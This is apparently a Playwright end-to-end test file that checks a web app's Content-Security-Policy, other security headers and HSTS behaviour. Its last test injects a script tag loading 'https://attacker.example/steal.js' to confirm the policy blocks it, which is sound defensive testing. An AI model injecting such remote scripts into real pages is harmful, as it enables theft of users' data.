import { e2ePorts, siteUrl } from "./support/stack.ts";
import { expect, test } from "./support/test.ts";

// The site's security headers on a page as the browser gets it; that the page then runs under its
// policy is checked by every journey (support/test.ts).

const policyOf = (header: string) =>
  new Map(
    header.split("; ").map((directive) => {
      const [name = "", ...sources] = directive.split(" ");
      return [name, sources] as const;
    }),
  );

test("a page carries the Content-Security-Policy and the other security headers, and runs under them", async ({
  page,
}) => {
  const response = await page.goto("./");
  const headers = response?.headers() ?? {};
  const policy = policyOf(headers["content-security-policy"] ?? "");
  const api = `http://localhost:${e2ePorts.api}`;
  const identityProvider = `http://localhost:${e2ePorts.idp}`;
  expect(policy.get("default-src")).toEqual(["'self'"]);
  expect(policy.get("connect-src")).toEqual(["'self'", api, identityProvider]);
  expect(policy.get("object-src")).toEqual(["'none'"]);
  expect(policy.get("base-uri")).toEqual(["'self'"]);
  expect(policy.get("form-action")).toEqual(["'self'", identityProvider]);
  expect(policy.get("frame-ancestors")).toEqual(["'none'"]);
  expect(policy.get("script-src")).not.toContain("'unsafe-eval'");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  expect(headers["permissions-policy"]).toContain("camera=()");
  // Served over plain http here: HSTS would be meaningless and is not sent.
  expect(headers["strict-transport-security"]).toBeUndefined();
  await expect(page.getByRole("banner").getByRole("link", { name: "ログイン" })).toBeVisible();
});

test("sends HSTS when a TLS-terminating proxy says the request came over https", async ({ request }) => {
  const response = await request.get(siteUrl, { headers: { "x-forwarded-proto": "https" } });
  expect(response.headers()["strict-transport-security"]).toBe("max-age=31536000; includeSubDomains");
});

test.describe("an injected script", () => {
  test.use({ expectedPolicyViolations: ["https://attacker.example/steal.js"] });

  test("from another origin is refused", async ({ page }) => {
    await page.goto("./");
    const refused = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {
            once: true,
          });
          const script = document.createElement("script");
          script.src = "https://attacker.example/steal.js";
          document.body.append(script);
        }),
    );
    expect(refused).toBe("script-src-elem");
  });
});
